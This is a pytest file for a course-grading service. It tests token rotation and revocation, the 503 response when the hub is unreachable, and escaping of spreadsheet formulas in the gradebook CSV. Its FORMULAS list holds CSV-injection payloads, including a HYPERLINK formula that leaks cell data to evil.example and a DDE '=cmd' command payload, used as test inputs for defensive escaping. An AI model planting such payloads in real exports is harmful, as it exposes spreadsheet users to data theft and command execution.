"""Token lifecycle, hub outages, and the gradebook CSV, against a real `grade serve`.

Tokens are rotated and revoked with the real commands (`grade course rotate-token`, `revoke`,
`add-students` again); each time the old token gets 401 from the running server, the new one
works, and a page session opened with a revoked token opens no page. A hub that cannot be
reached is a 503 with Retry-After (never a 500), and course tokens keep working meanwhile.
Roster names that are spreadsheet formulas reach the CSV as text.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import socket
import stat
import threading
import time

import pytest

from helpers.service import api, course, free_port, grade, new_course, page_login  # noqa: F401
from jaxlings.service import auth, config, db, exports, scores


def issued(course, *args: str) -> str:
    """The token a command prints (its last line)."""
    out = grade(list(args), course)
    assert out.returncode == 0, out.stdout + out.stderr
    return out.stdout.strip().splitlines()[-1]


def add_students(course, tmp_path, rows: list[tuple[str, str, str]], name: str = "roster.csv"):
    """`grade course add-students` on these rows; (its stdout, the rows of the tokens file)."""
    roster, out = tmp_path / name, tmp_path / f"tokens-{name}"
    with open(roster, "w", newline="") as f:
        csv.writer(f).writerows([("login", "name", "email"), *rows])
    done = grade(["course", "add-students", str(roster), "--out", str(out)], course)
    assert done.returncode == 0, done.stdout + done.stderr
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    return done.stdout, {r["login"]: r for r in csv.DictReader(open(out))}


def status(course, token: str, path: str = "/api/me") -> int:
    with api(course, token) as client:
        return client.get(path).status_code


def page_opens(pages, path: str) -> bool:
    """Whether a logged-in page client is shown `path` (else it is sent to the login page)."""
    reply = pages.get(path)
    assert reply.status_code in (200, 303), reply.text
    return reply.status_code == 200


@pytest.mark.slow
def test_a_students_token_is_rotated_revoked_and_rotated_by_re_adding(course, tmp_path):
    said, tokens = add_students(course, tmp_path, [("ada", "Ada L", "ada@x"), ("alan", "Alan T", "")])
    assert "added 2 new student(s)" in said and {r["note"] for r in tokens.values()} == {"new"}
    course.serve()
    first, alan = tokens["ada"]["token"], tokens["alan"]["token"]
    assert status(course, first) == 200
    pages = page_login(course, first)
    assert page_opens(pages, "/me")

    second = issued(course, "course", "rotate-token", "ada")
    assert second.startswith("jxl_") and second != first
    assert status(course, first) == 401 and status(course, second) == 200
    with api(course, second) as client:
        assert client.get("/api/me").json()["login"] == "ada"
    assert not page_opens(pages, "/me")  # the page session of the old token ended
    assert status(course, alan) == 200  # nobody else's token moved
    assert page_opens(page_login(course, second), "/me")

    revoked = grade(["course", "revoke", "ada"], course)
    assert revoked.returncode == 0 and "revoked 1 token(s) of student ada" in revoked.stdout, revoked.stdout
    assert status(course, second) == 401
    again = grade(["course", "revoke", "ada"], course)
    assert again.returncode == 0 and "none was live" in again.stdout

    said, tokens = add_students(
        course, tmp_path, [("ada", "", ""), ("alan", "Alan Turing", ""), ("grace", "G H", "")], "again.csv"
    )
    assert "added 1 new student(s); 2 already on the roster got a new token" in said, said
    assert tokens["alan"]["note"].startswith("rotated") and tokens["grace"]["note"] == "new"
    assert tokens["ada"]["name"] == "Ada L" and tokens["alan"]["name"] == "Alan Turing"  # kept, or updated when given
    assert status(course, alan) == 401
    assert all(status(course, row["token"]) == 200 for row in tokens.values())

    settings = course.settings()
    with db.sessions(settings.db_url)() as session:
        dead = session.query(db.Token).filter(db.Token.revoked.is_(True)).all()
        assert len(dead) == 3 and all(t.revoked_at is not None for t in dead)
        assert session.query(db.WebSession).filter(db.WebSession.token_id.in_([t.id for t in dead])).count() == 0


def test_unknown_names_and_odd_arguments_are_clear_errors(course):
    out = grade(["course", "rotate-token", "nobody"], course)
    assert out.returncode == 2 and "'nobody'" in out.stdout and "add-students" in out.stdout
    out = grade(["course", "revoke", "--instructor", "ghost"], course)
    assert out.returncode == 2 and "'ghost'" in out.stdout and "add-instructor" in out.stdout
    out = grade(["course", "revoke"], course)
    assert out.returncode == 2 and "either" in out.stdout
    out = grade(["course", "rotate-token", "ada", "--instructor", "prof"], course)
    assert out.returncode == 2 and "either" in out.stdout


def test_instructor_tokens_are_rotated_and_revoked_by_label(course):
    prof, ta = issued(course, "course", "add-instructor", "prof"), issued(course, "course", "add-instructor", "ta")
    course.serve()
    assert status(course, prof, "/api/gradebook.csv") == 200
    pages = page_login(course, prof)
    assert page_opens(pages, "/gradebook")

    fresh = issued(course, "course", "rotate-token", "--instructor", "prof")
    assert status(course, prof, "/api/gradebook.csv") == 401
    assert status(course, fresh, "/api/gradebook.csv") == 200
    with api(course, fresh) as client:
        assert client.get("/api/me").json() == {"login": "prof", "role": "instructor"}
    assert not page_opens(pages, "/gradebook")
    assert status(course, ta, "/api/gradebook.csv") == 200  # another label is untouched

    out = grade(["course", "revoke", "--instructor", "prof"], course)
    assert out.returncode == 0 and "revoked 1 token(s) of instructor prof" in out.stdout, out.stdout
    assert status(course, fresh, "/api/gradebook.csv") == 401
    assert status(course, ta, "/api/gradebook.csv") == 200


def test_rotate_in_one_transaction_names_the_unknown_before_changing_anything(tmp_path):
    settings = config.Settings(data_dir=tmp_path / "data")
    db.upgrade(settings.db_url)
    with db.sessions(settings.db_url).begin() as session:
        _, token = auth.add_student(session, "ada")
    with db.sessions(settings.db_url).begin() as session:
        with pytest.raises(ValueError, match="'ghost'"):
            auth.rotate(session, instructor="ghost")
        with pytest.raises(ValueError, match="'bob'"):
            auth.revoke(session, login="bob")
        who = auth.identify(session, token, settings)
        assert who.login == "ada" and who.token_id is not None and not who.is_instructor


def test_simultaneous_rotations_on_postgresql_leave_one_live_token():
    from helpers.service import drop_database, postgres_redis_env

    url = postgres_redis_env()["JAXLINGS_DATABASE_URL"]
    try:
        db.upgrade(url)
        with db.sessions(url).begin() as session:
            auth.add_student(session, "ada")
        tokens: list[str] = []

        def rotate() -> None:
            with db.sessions(url).begin() as session:
                tokens.append(auth.rotate(session, login="ada"))

        threads = [threading.Thread(target=rotate) for _ in range(8)]
        for t in threads:
            t.start()
        for t in threads:
            t.join(60)
        settings = config.Settings(database_url=url)
        with db.sessions(url)() as session:
            live = session.query(db.Token).filter(db.Token.revoked.is_(False)).count()
            working = [t for t in tokens if auth.identify(session, t, settings) is not None]
        assert len(tokens) == 8 and live == 1 and len(working) == 1
    finally:
        drop_database(url)


# ---------------------------------------------------------------- the hub


def closed_port() -> int:
    """A loopback port nothing listens on."""
    return free_port()


def test_an_unreachable_hub_raises_hub_unavailable(tmp_path):
    url = f"http://127.0.0.1:{closed_port()}/hub/api"
    settings = config.Settings(data_dir=tmp_path / "data", hub_api_url=url, hub_api_token="x")
    db.upgrade(settings.db_url)
    with db.sessions(settings.db_url).begin() as session:
        _, course_token = auth.add_student(session, "ada")
    with db.sessions(settings.db_url)() as session:
        with pytest.raises(auth.HubUnavailable) as down:
            auth.identify(session, "a-hub-token", settings)
        assert "cannot be reached" in str(down.value) and "\n" not in str(down.value) and url not in str(down.value)
        assert auth.identify(session, course_token, settings).login == "ada"  # the hub is not asked
        assert auth.identify(session, "jxl_unknown", settings) is None  # nor for our own prefix


def test_a_hanging_hub_costs_each_request_the_timeout_not_a_queue(monkeypatch):
    """A hub that accepts connections and never answers: six questions at once all end in about
    HUB_TIMEOUT (HubAuth's own blocking path would queue them one behind the other, 5 minutes each)."""
    monkeypatch.setattr(auth, "HUB_TIMEOUT", 1.0)
    with socket.socket() as hub:
        hub.bind(("127.0.0.1", 0))
        hub.listen(64)
        url = f"http://127.0.0.1:{hub.getsockname()[1]}/hub/api"
        errors: list[str] = []

        def ask(i: int) -> None:
            try:
                auth.hub_user(url, "x", f"token-{i}")
            except auth.HubUnavailable as exc:
                errors.append(str(exc))

        started = time.monotonic()
        threads = [threading.Thread(target=ask, args=(i,)) for i in range(6)]
        for t in threads:
            t.start()
        for t in threads:
            t.join(60)
        took = time.monotonic() - started
    assert len(errors) == 6 and all("did not answer within 1 s" in e for e in errors)
    assert took < 4.5, took  # queued, they would take 6 s or more


def test_a_served_course_answers_503_while_its_hub_is_down(tmp_path):
    c = new_course(
        tmp_path / "course",
        JAXLINGS_HUB_API_URL=f"http://127.0.0.1:{closed_port()}/hub/api",
        JAXLINGS_HUB_API_TOKEN="x",
    )
    try:
        c.serve()
        token = c.token("ada")
        with api(c, "a-hub-token") as client:
            reply = client.get("/api/me")
        assert reply.status_code == 503 and reply.headers.get("retry-after"), reply.text
        assert "JupyterHub" in reply.json()["detail"]
        assert status(c, token) == 200  # course tokens do not need the hub
        assert "Traceback" not in c.log("serve.log")
    finally:
        c.stop()


# ---------------------------------------------------------------- the CSV

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "=cmd|'/c calc'!A1"]


def test_gradebook_csv_neutralises_formulas_and_keeps_numbers():
    counted = scores.TopicScore("prng", 1.5, 19.0, 1, dt.datetime(2026, 12, 1))
    rows = [
        scores.Standing(db.Student(login=f"s{i}", name=name, email=name), {"prng": counted}, 2)
        for i, name in enumerate([*FORMULAS, "\tTabbed", "\rReturn", "Ada Lovelace", "ada@example.org", "O'Neil"])
    ]
    read = list(csv.DictReader(io.StringIO(exports.gradebook_csv(rows, scores.outline(["prng"])))))
    names = [r["name"] for r in read]
    assert names[:7] == ["'" + n for n in [*FORMULAS, "\tTabbed", "\rReturn"]]
    assert names[7:] == ["Ada Lovelace", "ada@example.org", "O'Neil"]  # honest text is untouched
    assert [r["email"] for r in read] == names
    assert {(r["prng"], r["prng max"], r["total"], r["submissions"]) for r in read} == {("1.5", "19", "1.5", "2")}


def test_a_roster_of_formulas_downloads_as_text(course, tmp_path):
    add_students(
        course, tmp_path, [(f"s{i}", name, "") for i, name in enumerate(FORMULAS)] + [("=login", "Ada", "@mail")]
    )
    prof = issued(course, "course", "add-instructor", "prof")
    course.serve()
    with api(course, prof) as client:
        reply = client.get("/api/gradebook.csv")
    assert reply.status_code == 200
    read = {r["login"]: r for r in csv.DictReader(io.StringIO(reply.text))}
    assert [read[f"s{i}"]["name"] for i in range(len(FORMULAS))] == ["'" + n for n in FORMULAS]
    assert read["'=login"]["name"] == "Ada" and read["'=login"]["email"] == "'@mail"
    assert all(r["total"] == "0" and r["submissions"] == "0" for r in read.values())
